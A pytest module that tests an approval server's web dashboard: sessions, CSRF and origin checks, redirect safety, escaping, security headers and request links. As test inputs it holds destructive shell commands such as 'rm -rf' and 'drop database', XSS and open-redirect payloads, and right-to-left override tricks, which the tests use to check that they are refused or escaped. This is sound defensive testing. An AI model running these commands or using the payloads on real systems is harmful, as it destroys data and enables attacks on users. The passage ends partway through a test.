"""The web dashboard over HTTP, against the real server: sign-in and sessions, decisions through its forms, CSRF and
origin checks, escaping, security headers, live events, per-approver request links, history, filters and exports.

Starting a server takes seconds, so this module starts its three servers once, in parallel: the dashboard alone,
one with WhatsApp on (a fake Twilio) for request links, and one of those whose requests expire after 3 s. Every test
keeps to requests it made itself (each input holds a unique marker), so sharing a server does not couple them.
"""

from __future__ import annotations

import asyncio
import csv
import html
import io
import json
import re
import time
import uuid
from collections.abc import AsyncIterator, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, urlsplit

import httpx
import pytest
from itsdangerous import TimestampSigner

from approval_server import render
from approval_server.entry import dashboard_templates as dashboard
from approval_server.web_auth import SESSION_COOKIE, SESSION_SECONDS, WebAuth
from tests.dashboard_support import (
    DASHBOARD_TOKEN,
    TOOL,
    EventStream,
    answer,
    ask,
    browser,
    csrf_of,
    link_for,
    local,
    page_csrf,
    signed_in,
    still_pending,
)
from tests.databases import Databases
from tests.fake_twilio import FakeTwilio
from tests.support import ServerProcess
from tests.whatsapp_support import ALICE, BOB, MALLORY, PUBLIC_URL, whatsapp_env

OTHER_TOKEN = "another-dashboard-token-0123456789"
SHORT_TIMEOUT = 3
HIDDEN_MARK = '<span class="hidden-char" title="hidden character">⟨U+202E⟩</span>'


@dataclass
class Deployment:
    plain: ServerProcess  # the dashboard, WhatsApp off
    whatsapp: ServerProcess  # WhatsApp on (the fake below): messages carry request links
    fake: FakeTwilio
    short: ServerProcess  # WhatsApp on, requests expire after SHORT_TIMEOUT seconds
    short_fake: FakeTwilio


@pytest.fixture(scope="module")
def deployment(tmp_path_factory: pytest.TempPathFactory, databases: Databases) -> Iterator[Deployment]:
    def make(name: str, env: dict[str, str]) -> ServerProcess:
        data_dir = tmp_path_factory.mktemp(name)
        return ServerProcess(data_dir=data_dir, database_url=databases.create(data_dir), env=env)

    with FakeTwilio() as fake, FakeTwilio() as short_fake:
        # These servers are shared by many tests that try wrong tokens on purpose and hold more waiting requests of
        # one agent than its fair share: both limits have tests of their own (test_hygiene.py, test_fair_share.py).
        token = {
            "APPROVAL_DASHBOARD_TOKEN": DASHBOARD_TOKEN,
            "APPROVAL_WRONG_TOKENS_PER_MINUTE": "10000",
            "APPROVAL_MAX_PENDING_PER_AGENT": "1000",
            "APPROVAL_MAX_PENDING_PER_TOKEN": "1000",
        }
        plain = make("plain", token)
        whatsapp = make("whatsapp", whatsapp_env(fake, APPROVAL_WHATSAPP_PER_MINUTE="1000", **token))
        short = make("short", whatsapp_env(short_fake, APPROVAL_TIMEOUT_SECONDS=str(SHORT_TIMEOUT), **token))
        for twilio, server in ((fake, whatsapp), (short_fake, short)):
            twilio.configure_webhook(f"{PUBLIC_URL}/twilio-webhook", deliver_to=f"{server.url}/twilio-webhook")
        servers = [plain, whatsapp, short]
        try:
            with ThreadPoolExecutor(len(servers)) as pool:
                list(pool.map(ServerProcess.start, servers))
            yield Deployment(plain, whatsapp, fake, short, short_fake)
        finally:
            for server in servers:
                server.stop()
                databases.drop(server.database_url or "")


@pytest.fixture
def dash(deployment: Deployment) -> ServerProcess:
    return deployment.plain


def marker() -> str:
    return uuid.uuid4().hex[:12]


def flip(text: str, index: int) -> str:
    """`text` with one character changed."""
    return text[:index] + ("A" if text[index] != "A" else "B") + text[index + 1 :]


def token_parts(token: str) -> tuple[str, str, str]:
    """An itsdangerous timed token: payload, timestamp, signature."""
    payload, stamp, signature = token.rsplit(".", 2)
    return payload, stamp, signature


@contextmanager
def aged(monkeypatch: pytest.MonkeyPatch, seconds: int) -> Iterator[None]:
    """Within it, every token signed in this process is dated `seconds` ago."""
    real = TimestampSigner.get_timestamp
    with monkeypatch.context() as patch:
        patch.setattr(TimestampSigner, "get_timestamp", lambda self: real(self) - seconds)
        yield


def cookie_attributes(response: httpx.Response) -> tuple[str, set[str]]:
    """The value of the one `approval_session` cookie set, and its attributes in lower case."""
    cookies = [c for c in response.headers.get_list("set-cookie") if c.startswith(f"{SESSION_COOKIE}=")]
    assert len(cookies) == 1, response.headers.get_list("set-cookie")
    first, *attributes = (part.strip() for part in cookies[0].split(";"))
    return first.partition("=")[2], {a.lower() for a in attributes}


def sets_no_session(response: httpx.Response) -> bool:
    return not any(c.startswith(f"{SESSION_COOKIE}=") for c in response.headers.get_list("set-cookie"))


def history_ids(page: str) -> list[str]:
    return re.findall(r'<tr id="hist-([a-z0-9]+)"', page)


def assert_security_headers(response: httpx.Response) -> None:
    csp = response.headers.get("content-security-policy", "")
    assert "script-src 'self'" in csp, csp
    assert "frame-ancestors 'none'" in csp
    assert "unsafe-inline" not in csp
    assert "unsafe-eval" not in csp
    assert response.headers.get("x-frame-options") == "DENY"
    # A request link in the address bar must never reach another site in a Referer header.
    assert response.headers.get("referrer-policy") in ("no-referrer", "same-origin")
    assert response.headers.get("x-content-type-options") == "nosniff"


async def deny_via_api(api: httpx.AsyncClient, request_id: str) -> None:
    response = await api.post(f"/api/requests/{request_id}/decision", json={"decision": "deny", "message": "cleanup"})
    assert response.status_code == 200, response.text


# -- sessions -------------------------------------------------------------------------------------------------------


def forged_session(kind: str, monkeypatch: pytest.MonkeyPatch) -> str | None:
    auth = WebAuth(DASHBOARD_TOKEN)
    if kind == "none":
        return None
    if kind == "garbled":
        return "definitely.not.a-session"
    if kind == "tampered":
        payload, stamp, signature = token_parts(auth.new_session())
        return f"{payload}.{stamp}.{flip(signature, len(signature) // 2)}"
    if kind == "signed with another token":
        return WebAuth(OTHER_TOKEN).new_session()
    if kind == "older than a session lives":
        with aged(monkeypatch, SESSION_SECONDS + 3600):
            return auth.new_session()
    assert kind == "a request link"
    return auth.request_link_token("abcdefgh", ALICE)


@pytest.mark.parametrize(
    "kind", ["none", "garbled", "tampered", "signed with another token", "older than a session lives", "a request link"]
)
async def test_without_a_valid_session_pages_redirect_and_actions_are_refused(
    dash: ServerProcess, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    cookie = forged_session(kind, monkeypatch)
    async with dash.mcp() as mcp, dash.api() as api, browser(dash) as http:
        if cookie is not None:
            http.cookies.set(SESSION_COOKIE, cookie)
        call, pending = await ask(mcp, api, {"command": f"rm -rf /srv/{marker()}"})
        request_id = pending["id"]
        for path in [
            "/",
            f"/requests/{request_id}",
            f"/requests/{request_id}?x=1&y=2",
            "/?status=denied",
            "/export.csv",
        ]:
            response = await http.get(path)
            assert response.status_code == 303, path
            assert response.headers["location"] == f"/login?next={quote(path, safe='')}"
            assert sets_no_session(response)
        for path in ["/events", "/fragments/pending"]:
            response = await http.get(path)
            assert response.status_code == 401, path
            assert request_id not in response.text
        for decision in ("allow", "deny"):
            response = await http.post(
                f"/requests/{request_id}/decision", data={"csrf": "0" * 64, "decision": decision}
            )
            assert response.status_code == 401
        logout = await http.post("/logout", data={"csrf": "0" * 64})
        assert logout.status_code == 303
        assert logout.headers["location"].startswith("/login")
        await still_pending(api, request_id, call)

        # The same client with a session the server did sign is let in: the refusals above were about the cookie.
        http.cookies.set(SESSION_COOKIE, WebAuth(DASHBOARD_TOKEN).new_session())
        assert (await http.get("/")).status_code == 200
        fragment = await http.get("/fragments/pending")
        assert fragment.status_code == 200
        assert f'id="req-{request_id}"' in fragment.text
        await deny_via_api(api, request_id)
        assert (await answer(call))["behavior"] == "deny"


async def test_the_login_page_asks_for_the_token(dash: ServerProcess) -> None:
    async with browser(dash) as http:
        response = await http.get("/login", params={"next": "/requests/abc"})
    assert response.status_code == 200
    assert '<form method="post" action="/login">' in response.text
    assert '<input type="hidden" name="next" value="/requests/abc">' in response.text
    assert sets_no_session(response)
    assert_security_headers(response)


@pytest.mark.parametrize(
    "token", ["wrong", "", DASHBOARD_TOKEN + "x", DASHBOARD_TOKEN[:-1], DASHBOARD_TOKEN.upper(), OTHER_TOKEN]
)
async def test_a_wrong_token_is_401_and_gives_no_session(dash: ServerProcess, token: str) -> None:
    async with browser(dash) as http:
        by_get = await http.get("/login", params={"token": token, "next": "/"})
        by_post = await http.post("/login", data={"token": token, "next": "/"})
        for response in (by_get, by_post):
            assert response.status_code == 401
            assert "That token is not right" in response.text
            assert sets_no_session(response)
        assert not http.cookies
        assert (await http.get("/")).status_code == 303


@pytest.mark.parametrize(
    ("next_path", "location"),
    [
        (None, "/"),
        ("/requests/abc?x=1", "/requests/abc?x=1"),
        ("/?status=denied&q=rm", "/?status=denied&q=rm"),
        ("//evil.example/x", "/"),
        ("https://evil.example/", "/"),
        ("/\\evil.example", "/"),
        ("\\\\evil.example", "/"),
        ("javascript:alert(1)", "/"),
        ("evil.example", "/"),
    ],
)
async def test_the_right_token_sets_a_strict_session_cookie_and_goes_to_a_local_next(
    dash: ServerProcess, next_path: str | None, location: str
) -> None:
    params = {"token": DASHBOARD_TOKEN} | ({"next": next_path} if next_path is not None else {})
    async with browser(dash) as http:
        response = await http.get("/login", params=params)
        assert response.status_code == 303
        assert response.headers["location"] == location
        value, attributes = cookie_attributes(response)
        assert WebAuth(DASHBOARD_TOKEN).session(value) is not None
        assert {"httponly", "samesite=strict", "path=/"} <= attributes
        assert f"max-age={SESSION_SECONDS}" in attributes
        assert_security_headers(response)
        page = await http.get("/")
    assert page.status_code == 200
    assert 'action="/logout"' in page.text


async def test_tab_and_newline_tricks_in_next_stay_on_this_server(dash: ServerProcess) -> None:
    async with browser(dash) as http:
        for trick in ("/\t/evil.example", "/\n/evil.example", "/\r\n/evil.example", " //evil.example"):
            response = await http.get("/login", params={"token": DASHBOARD_TOKEN, "next": trick})
            assert response.status_code == 303
            location = response.headers["location"]
            # A browser drops tabs and newlines from a URL: what is left must still be a path on this server.
            cleaned = re.sub(r"[\t\r\n]", "", location)
            assert cleaned.startswith("/"), location
            assert not cleaned.startswith("//"), location
            assert urlsplit(cleaned).netloc == ""


async def test_signing_in_with_the_form(dash: ServerProcess) -> None:
    async with browser(dash) as http:
        response = await http.post("/login", data={"token": DASHBOARD_TOKEN, "next": "/?status=allowed"})
        assert response.status_code == 303
        assert response.headers["location"] == "/?status=allowed"
        value, attributes = cookie_attributes(response)
        assert {"httponly", "samesite=strict", "path=/"} <= attributes
        assert WebAuth(DASHBOARD_TOKEN).session(value) is not None
        assert (await http.get("/")).status_code == 200
        evil_next = await http.post("/login", data={"token": DASHBOARD_TOKEN, "next": "//evil.example"})
        assert evil_next.headers["location"] == "/"


@pytest.mark.parametrize(
    "headers", [{"Origin": "http://evil.example"}, {"Origin": "null"}, {"Sec-Fetch-Site": "cross-site"}]
)
async def test_a_login_form_posted_from_another_site_is_refused(dash: ServerProcess, headers: dict[str, str]) -> None:
    async with browser(dash, **headers) as http:
        response = await http.post("/login", data={"token": DASHBOARD_TOKEN, "next": "/"})
        assert response.status_code == 403
        assert sets_no_session(response)
        assert (await http.get("/")).status_code == 303


async def test_logout_needs_the_csrf_token_and_clears_the_session(dash: ServerProcess) -> None:
    async with signed_in(dash) as http, signed_in(dash) as other:
        csrf = await page_csrf(http)
        refused = [
            await http.post("/logout"),
            await http.post("/logout", data={"csrf": "0" * 64}),
            await http.post("/logout", data={"csrf": await page_csrf(other)}),
            await http.post("/logout", data={"csrf": csrf}, headers={"Origin": "http://evil.example"}),
            await http.post("/logout", data={"csrf": csrf}, headers={"Sec-Fetch-Site": "cross-site"}),
        ]
        for response in refused:
            assert response.status_code == 403
            assert sets_no_session(response)
        assert (await http.get("/")).status_code == 200
        response = await http.post("/logout", data={"csrf": csrf}, headers={"Origin": dash.url})
        assert response.status_code == 303
        assert response.headers["location"] == "/login"
        value, attributes = cookie_attributes(response)
        assert value in ("", '""')
        assert "max-age=0" in attributes
        assert "path=/" in attributes
        assert SESSION_COOKIE not in http.cookies
        assert (await http.get("/")).status_code == 303
        assert (await other.get("/")).status_code == 200  # another session is not signed out


# -- decisions through the forms ------------------------------------------------------------------------------------


async def test_approve_from_the_request_page_allows_exactly_the_recorded_input(dash: ServerProcess) -> None:
    tool_input = {"command": f"ls -la /srv/{marker()}", "description": "look around", "timeout": 5000}
    async with dash.mcp() as mcp, dash.api() as api, signed_in(dash) as http:
        call, pending = await ask(mcp, api, tool_input)
        request_id = pending["id"]
        page = await http.get(f"/requests/{request_id}")
        assert page.status_code == 200
        assert f'action="/requests/{request_id}/decision"' in page.text
        response = await http.post(
            f"/requests/{request_id}/decision", data={"csrf": csrf_of(page.text), "decision": "allow"}
        )
        assert response.status_code == 303
        assert response.headers["location"] == "/"
        assert await answer(call) == {"behavior": "allow", "updatedInput": tool_input}
        row = (await api.get(f"/api/requests/{request_id}")).json()
        shown = await http.get(f"/requests/{request_id}")
    assert (row["status"], row["decided_via"], row["updated_input"]) == ("allowed", "dashboard", None)
    assert row["decided_by"] == "owner"  # signed in with the dashboard token
    assert [a["outcome"] for a in row["answers"]] == ["applied"]
    assert '<span class="badge allowed">allowed</span>' in shown.text
    assert 'name="decision"' not in shown.text  # a closed request has no forms left


async def test_deny_with_a_message_from_the_dashboard(dash: ServerProcess) -> None:
    message = f"Use the staging box instead ({marker()})"
    async with dash.mcp() as mcp, dash.api() as api, signed_in(dash) as http:
        call, pending = await ask(mcp, api, {"command": "systemctl restart prod"})
        request_id = pending["id"]
        csrf = await page_csrf(http, "/")  # the cards on the dashboard carry the same forms
        form = {"csrf": csrf, "decision": "deny", "message": f"  {message}\n", "next": "//evil.example/x"}
        response = await http.post(f"/requests/{request_id}/decision", data=form)
        assert response.status_code == 303
        assert response.headers["location"] == "/"
        result = await answer(call)
        row = (await api.get(f"/api/requests/{request_id}")).json()
    assert result["behavior"] == "deny"
    assert message in result["message"]
    assert "via dashboard" in result["message"]
    assert request_id in result["message"]
    assert (row["status"], row["decided_via"], row["reason"]) == ("denied", "dashboard", message)


async def test_approve_with_an_edit_runs_the_edit_and_keeps_both(dash: ServerProcess) -> None:
    original = {"command": f"rm -rf /srv/cache/{marker()}", "description": "clean up"}
    edited = {"command": "rm -rf /srv/cache/tmp", "description": "clean up, only tmp"}
    async with dash.mcp() as mcp, dash.api() as api, signed_in(dash) as http:
        call, pending = await ask(mcp, api, original)
        request_id = pending["id"]
        csrf = await page_csrf(http, f"/requests/{request_id}")
        form = {"csrf": csrf, "decision": "edit", "updated_input": json.dumps(edited, indent=2)}
        response = await http.post(f"/requests/{request_id}/decision", data=form)
        assert response.status_code == 303
        assert await answer(call) == {"behavior": "allow", "updatedInput": edited}
        row = (await api.get(f"/api/requests/{request_id}")).json()
        page = await http.get(f"/requests/{request_id}")
    assert (row["input"], row["updated_input"]) == (original, edited)
    assert (row["status"], row["decided_via"]) == ("allowed", "dashboard")
    assert row["answers"][0]["updated_input"] == edited
    assert "What ran instead" in page.text
    assert "only tmp" in page.text


async def test_the_edit_box_holds_the_input_exactly_even_with_hidden_characters(dash: ServerProcess) -> None:
    original = {"command": f"echo {marker()} \u202ecod.exe\u200b", "env": {"A": [1, 2.5, None, True]}}
    async with dash.mcp() as mcp, dash.api() as api, signed_in(dash) as http:
        call, pending = await ask(mcp, api, original)
        request_id = pending["id"]
        page = await http.get(f"/requests/{request_id}")
        box = re.search(rf'<textarea id="edit-{request_id}"[^>]*>(.*?)</textarea>', page.text, re.DOTALL)
        assert box is not None
        text = html.unescape(box.group(1))
        assert "\u202e" not in text  # written as an escape, so the approver sees it
        assert "\\u202e" in text
        response = await http.post(
            f"/requests/{request_id}/decision",
            data={"csrf": csrf_of(page.text), "decision": "edit", "updated_input": text},
        )
        assert response.status_code == 303
        assert await answer(call) == {"behavior": "allow", "updatedInput": original}
        row = (await api.get(f"/api/requests/{request_id}")).json()
    assert row["updated_input"] is None  # submitted unchanged: not recorded as an edit


@pytest.mark.parametrize(
    ("form", "problem"),
    [
        ({"decision": "edit", "updated_input": "{not json"}, "Edited input is not valid JSON"),
        ({"decision": "edit", "updated_input": ""}, "Edited input is not valid JSON"),
        ({"decision": "edit", "updated_input": "[1, 2]"}, "It must be a JSON object"),
        ({"decision": "edit", "updated_input": '"rm -rf /"'}, "It must be a JSON object"),
        ({"decision": "edit", "updated_input": "null"}, "It must be a JSON object"),
        ({"decision": "edit"}, "It must be a JSON object"),
        ({"decision": "edit", "updated_input": '{"command": ' + "[" * 100_000}, "Edited input is not valid"),
        ({"decision": "edit", "updated_input": '{"a": ' + "[" * 50_000 + "]" * 50_000 + "}"}, "Edited input"),
        ({"decision": "maybe"}, "Choose approve, allow for session, deny"),
        ({}, "Choose approve, allow for session, deny"),
        ({"decision": "deny", "message": "x" * 2001}, "over 2000 characters"),
    ],
)
async def test_a_bad_decision_form_is_400_and_changes_nothing(
    dash: ServerProcess, form: dict[str, str], problem: str
) -> None:
    async with dash.mcp() as mcp, dash.api() as api, signed_in(dash) as http:
        call, pending = await ask(mcp, api, {"command": f"make deploy {marker()}"})
        request_id = pending["id"]
        csrf = await page_csrf(http, f"/requests/{request_id}")
        response = await http.post(f"/requests/{request_id}/decision", data={"csrf": csrf, **form})
        assert response.status_code == 400
        assert problem in html.unescape(response.text)
        assert_security_headers(response)
        await still_pending(api, request_id, call)
        await deny_via_api(api, request_id)
        await answer(call)


@pytest.mark.parametrize(
    ("case", "headers"),
    [
        ("no csrf", {}),
        ("empty csrf", {}),
        ("wrong csrf", {}),
        ("another session's csrf", {}),
        ("foreign origin", {"Origin": "http://evil.example"}),
        ("null origin", {"Origin": "null"}),
        ("same host, other port", {"Origin": "http://127.0.0.1:1"}),
        ("cross-site fetch", {"Sec-Fetch-Site": "cross-site"}),
        ("same-site fetch", {"Sec-Fetch-Site": "same-site"}),
    ],
)
async def test_a_forged_or_cross_site_decision_is_403_and_changes_nothing(
    dash: ServerProcess, case: str, headers: dict[str, str]
) -> None:
    async with dash.mcp() as mcp, dash.api() as api, signed_in(dash) as http, signed_in(dash) as other:
        call, pending = await ask(mcp, api, {"command": f"curl -X DELETE https://prod/{marker()}"})
        request_id = pending["id"]
        own = await page_csrf(http, f"/requests/{request_id}")
        csrf = {
            "no csrf": None,
            "empty csrf": "",
            "wrong csrf": own[:-1] + ("0" if own[-1] != "0" else "1"),
            "another session's csrf": await page_csrf(other),
        }.get(case, own)
        form = {"decision": "allow"} | ({"csrf": csrf} if csrf is not None else {})
        response = await http.post(f"/requests/{request_id}/decision", data=form, headers=headers)
        assert response.status_code == 403
        await still_pending(api, request_id, call)

        # The same form from this server's own page, as a browser sends it, is accepted.
        same_origin = {"Origin": dash.url, "Sec-Fetch-Site": "same-origin"}
        accepted = await http.post(
            f"/requests/{request_id}/decision", data={"csrf": own, "decision": "allow"}, headers=same_origin
        )
        assert accepted.status_code == 303
        assert (await answer(call))["behavior"] == "allow"


async def test_a_second_decision_on_a_closed_request_is_409_and_changes_nothing(dash: ServerProcess) -> None:
    async with dash.mcp() as mcp, dash.api() as api, signed_in(dash) as http:
        call, pending = await ask(mcp, api, {"command": f"git push --force {marker()}"})
        request_id = pending["id"]
        csrf = await page_csrf(http, f"/requests/{request_id}")
        first = await http.post(f"/requests/{request_id}/decision", data={"csrf": csrf, "decision": "deny"})
        assert first.status_code == 303
        assert (await answer(call))["behavior"] == "deny"
        for form in ({"decision": "allow"}, {"decision": "edit", "updated_input": '{"command": "ls"}'}):
            again = await http.post(f"/requests/{request_id}/decision", data={"csrf": csrf, **form})
            assert again.status_code == 409
            assert "already denied" in again.text
        row = (await api.get(f"/api/requests/{request_id}")).json()
    assert (row["status"], row["updated_input"]) == ("denied", None)
    assert [a["outcome"] for a in row["answers"]] == ["applied", "too_late", "too_late"]


async def test_an_unknown_request_is_a_404_page(dash: ServerProcess) -> None:
    async with signed_in(dash) as http:
        csrf = await page_csrf(http)
        for path in ("/requests/nosuchid", "/requests/%3Cscript%3E"):
            page = await http.get(path)
            assert page.status_code == 404
            assert page.headers["content-type"].startswith("text/html")
            assert "There is no such request." in page.text
            assert "<script>" not in page.text.replace('<script src="/static/dashboard.js" defer></script>', "")
            assert_security_headers(page)
        post = await http.post("/requests/nosuchid/decision", data={"csrf": csrf, "decision": "allow"})
        assert post.status_code == 404
        assert (await http.get("/export.xml")).status_code == 404


MALFORMED: list[tuple[bytes, str]] = [
    (b"csrf=%zz&decision=%%%", "application/x-www-form-urlencoded"),
    (b"\xff\xfe\x00\x01garbage=\xff", "application/x-www-form-urlencoded"),
    (b'--x\r\nContent-Disposition: form-data; name="decision"\r\n\r\nallow', "multipart/form-data; boundary=x"),
    (b"--x\r\nnot a header at all\r\n\r\n--x--\r\n", "multipart/form-data; boundary=x"),
    (b"anything", "multipart/form-data"),
    (b'{"decision": "allow"}', "application/json"),
    (b"decision=allow", "text/plain"),
    (b"", "application/x-www-form-urlencoded"),
]


@pytest.mark.parametrize(("body", "content_type"), MALFORMED)
async def test_a_malformed_form_body_is_4xx_never_500(dash: ServerProcess, body: bytes, content_type: str) -> None:
    async with dash.mcp() as mcp, dash.api() as api, signed_in(dash) as http:
        call, pending = await ask(mcp, api, {"command": f"shutdown -h now {marker()}"})
        request_id = pending["id"]
        headers = {"Content-Type": content_type}
        for path in (f"/requests/{request_id}/decision", "/login", "/logout"):
            response = await http.post(path, content=body, headers=headers)
            assert 400 <= response.status_code < 500, (path, response.status_code, response.text)
        await still_pending(api, request_id, call)
        assert (await http.get("/")).status_code == 200  # still signed in
        await deny_via_api(api, request_id)
        await answer(call)


async def body_of(size: int) -> AsyncIterator[bytes]:
    """A form body of `size` bytes sent in chunks, without a Content-Length."""
    yield b"token="
    chunk = b"a" * 65536
    for _ in range(size // len(chunk) + 1):
        yield chunk


async def test_a_form_over_2_mb_is_413_with_or_without_a_length(dash: ServerProcess) -> None:
    too_big = 2 * 1024 * 1024 + 10
    form_type = {"Content-Type": "application/x-www-form-urlencoded"}
    async with dash.mcp() as mcp, dash.api() as api, signed_in(dash) as http:
        call, pending = await ask(mcp, api, {"command": f"dd if=/dev/zero {marker()}"})
        request_id = pending["id"]
        csrf = await page_csrf(http)
        big = f"csrf={csrf}&decision=deny&message=".encode() + b"x" * too_big
        response = await http.post(f"/requests/{request_id}/decision", content=big, headers=form_type)
        assert response.status_code == 413
        chunked = await http.post(f"/requests/{request_id}/decision", content=body_of(too_big), headers=form_type)
        assert chunked.status_code == 413
        await still_pending(api, request_id, call)
        await deny_via_api(api, request_id)
        await answer(call)
    async with browser(dash) as anonymous:  # before any sign-in: the login form must not read a huge body either
        response = await anonymous.post("/login", content=body_of(too_big), headers=form_type)
        assert response.status_code == 413
        assert sets_no_session(response)


# -- what a page shows ----------------------------------------------------------------------------------------------


async def test_markup_and_hidden_characters_are_shown_as_text_everywhere(dash: ServerProcess) -> None:
    command = f"echo '<script>alert(1)</script>' {marker()} \u202egnp.exe"
    tool_name = "<svg onload=alert(3)>"
    async with dash.mcp() as mcp, dash.api() as api, signed_in(dash) as http:
        async with http.stream("GET", "/events") as stream:
            events = EventStream(stream)
            await events.until("ready")
            call, pending = await ask(mcp, api, {"command": command, "description": "<b>bold</b>"}, tool_name)
            request_id = pending["id"]
            created = await events.until("created", lambda e: e["id"] == request_id)
            shown = {
                "the created event": created["html"],
                "the dashboard": (await http.get("/")).text,
                "the pending fragment": (await http.get("/fragments/pending")).text,
                "the request page": (await http.get(f"/requests/{request_id}")).text,
            }
            await deny_via_api(api, request_id)
            closed = await events.until("closed", lambda e: e["id"] == request_id)
            shown["the closed event"] = closed["html"]
            shown["the history"] = (await http.get("/", params={"status": "denied"})).text
            shown["the closed request page"] = (await http.get(f"/requests/{request_id}")).text
        await answer(call)
    for where, page in shown.items():
        assert "<script>alert" not in page, where
        assert "<svg" not in page, where
        assert "<b>bold" not in page, where
        assert "&lt;svg onload=alert(3)&gt;" in page, where
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page, where
        assert "\u202e" not in page, where
        assert HIDDEN_MARK in page, where


async def test_parameters_shown_back_on_a_page_are_escaped(dash: ServerProcess) -> None:
    attack = '"><script>alert(1)</script><"'
    async with signed_in(dash) as http, browser(dash) as anonymous:
        pages = [
            await http.get("/", params={"q": attack}),
            await http.get("/", params={"q": attack, "tool": attack, "status": "denied"}),
            await http.get("/", params={"status": attack}),
            await http.get(f"/requests/{attack}"),
            await anonymous.get("/login", params={"next": "/" + attack}),
            await anonymous.get("/login", params={"next": "/" + attack, "token": "wrong"}),
        ]
    assert [page.status_code for page in pages] == [200, 200, 400, 404, 200, 401]
    for page in pages:
        assert "<script>alert" not in page.text, page.url
    assert 'value="&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;&#34;"' in pages[0].text
    assert "%22%3E%3Cscript%3E" in pages[1].text  # in the export links, URL-encoded


async def test_dashboard_pages_send_security_headers_and_no_inline_code(dash: ServerProcess) -> None:
    async with dash.mcp() as mcp, dash.api() as api, signed_in(dash) as http, browser(dash) as anonymous:
        call, pending = await ask(mcp, api, {"command": f"uptime {marker()}"})
        request_id = pending["id"]
        responses = {
            "/": await http.get("/"),
            "request": await http.get(f"/requests/{request_id}"),
            "login": await anonymous.get("/login"),
            "redirect": await anonymous.get("/"),
            "bad filter": await http.get("/?status=nonsense"),
            "unknown": await http.get("/requests/nosuchid"),
            "export": await http.get("/export.csv", params={"q": request_id}),
            "fragment": await http.get("/fragments/pending"),
            "script": await http.get("/static/dashboard.js"),
            "refused form": await http.post(f"/requests/{request_id}/decision", data={"decision": "allow"}),
        }
        await deny_via_api(api, request_id)
        await answer(call)
    for name, response in responses.items():
        assert_security_headers(response)
        assert response.headers.get("cache-control") == "no-store", name
    for name in ("request", "login"):
        page = responses[name].text
        assert not re.search(r"<script(?![^>]*\bsrc=)", page), name
        assert not re.search(r"\son[a-z]+\s*=", page), name
        assert " style=" not in page, name


# -- live updates ---------------------------------------------------------------------------------------------------


async def test_the_event_stream_shows_requests_as_they_come_and_go(dash: ServerProcess) -> None:
    command = f"terraform apply {marker()}"
    async with dash.mcp() as mcp, dash.api() as api, signed_in(dash) as http:
        csrf = await page_csrf(http)
        async with http.stream("GET", "/events") as response:
            assert response.status_code == 200
            assert response.headers["content-type"].startswith("text/event-stream")
            events = EventStream(response)
            await events.until("ready")
            call, pending = await ask(mcp, api, {"command": command})
            request_id = pending["id"]
            created = await events.until("created", lambda e: e["id"] == request_id)
            assert f'<article class="card" id="req-{request_id}"' in created["html"]
            assert command in created["html"]
            assert csrf_of(created["html"]) == csrf  # its forms work for this session
            decided = await http.post(
                f"/requests/{request_id}/decision", data={"csrf": csrf, "decision": "deny", "message": "not today"}
            )
            assert decided.status_code == 303
            closed = await events.until("closed", lambda e: e["id"] == request_id)
        result = await answer(call)
    assert closed["status"] == "denied"
    assert f'<tr id="hist-{request_id}" class="status-denied">' in closed["html"]
    assert "via dashboard" in closed["html"]
    assert "not today" in result["message"]


# -- request links --------------------------------------------------------------------------------------------------


async def test_a_request_link_decides_once_as_its_approver_without_a_session(deployment: Deployment) -> None:
    server, fake = deployment.whatsapp, deployment.fake
    tool_input = {"command": f"kubectl delete ns {marker()}"}
    async with server.mcp() as mcp, server.api() as api, browser(server) as http:
        call, pending = await ask(mcp, api, tool_input)
        request_id = pending["id"]
        link = local(await link_for(fake, BOB, request_id), server)
        alice_link = local(await link_for(fake, ALICE, request_id), server)
        assert link != alice_link
        page = await http.get(link)
        assert page.status_code == 200
        assert tool_input["command"] in page.text
        assert f"You are answering as {BOB}" in page.text
        assert f'action="{urlsplit(link).path}"' in page.text
        assert sets_no_session(page)
        assert_security_headers(page)
        csrf = csrf_of(page.text)

        # The link is not a session: the dashboard stays closed to this client.
        assert (await http.get("/")).status_code == 303
        assert (await http.get(f"/requests/{request_id}")).status_code == 303
        assert (await http.get("/events")).status_code == 401
        as_session = await http.post(f"/requests/{request_id}/decision", data={"csrf": csrf, "decision": "allow"})
        assert as_session.status_code == 401
        await still_pending(api, request_id, call)

        response = await http.post(link, data={"csrf": csrf, "decision": "allow"})
        assert response.status_code == 200
        assert "Approved" in response.text
        assert sets_no_session(response)
        assert await answer(call) == {"behavior": "allow", "updatedInput": tool_input}
        row = (await api.get(f"/api/requests/{request_id}")).json()
        assert (row["status"], row["decided_by"], row["decided_via"]) == ("allowed", BOB, "web link")

        again = [
            await http.get(link),
            await http.post(link, data={"csrf": csrf, "decision": "deny"}),
            await http.get(alice_link),
        ]
        assert [r.status_code for r in again] == [410, 410, 410]
        assert (await http.get("/")).status_code == 303
        after = (await api.get(f"/api/requests/{request_id}")).json()
    assert (after["status"], after["decided_by"]) == ("allowed", BOB)
    assert [a["outcome"] for a in after["answers"]] == ["applied"]


async def test_a_request_link_used_twice_at_once_decides_once(deployment: Deployment) -> None:
    server, fake = deployment.whatsapp, deployment.fake
    async with server.mcp() as mcp, server.api() as api, browser(server) as http:
        call, pending = await ask(mcp, api, {"command": f"drop database {marker()}"})
        request_id = pending["id"]
        link = local(await link_for(fake, ALICE, request_id), server)
        csrf = csrf_of((await http.get(link)).text)
        decisions = ["allow", "deny"] * 4
        responses = await asyncio.gather(
            *(http.post(link, data={"csrf": csrf, "decision": decision}) for decision in decisions)
        )
        assert sorted(r.status_code for r in responses) == [200] + [410] * (len(decisions) - 1)
        result = await answer(call)
        row = (await api.get(f"/api/requests/{request_id}")).json()
    winner = next(d for d, r in zip(decisions, responses, strict=True) if r.status_code == 200)
    assert result["behavior"] == winner
    assert row["decided_by"] == ALICE
    assert [a["outcome"] for a in row["answers"]] == ["applied"]


async def test_changed_swapped_or_foreign_request_links_are_refused(
    deployment: Deployment, monkeypatch: pytest.MonkeyPatch
) -> None:
    server, fake = deployment.whatsapp, deployment.fake
    auth = WebAuth(DASHBOARD_TOKEN)
    async with server.mcp() as mcp, server.api() as api, browser(server) as http:
        call_a, a = await ask(mcp, api, {"command": f"rm -rf /a/{marker()}"})
        call_b, b = await ask(mcp, api, {"command": f"rm -rf /b/{marker()}"})
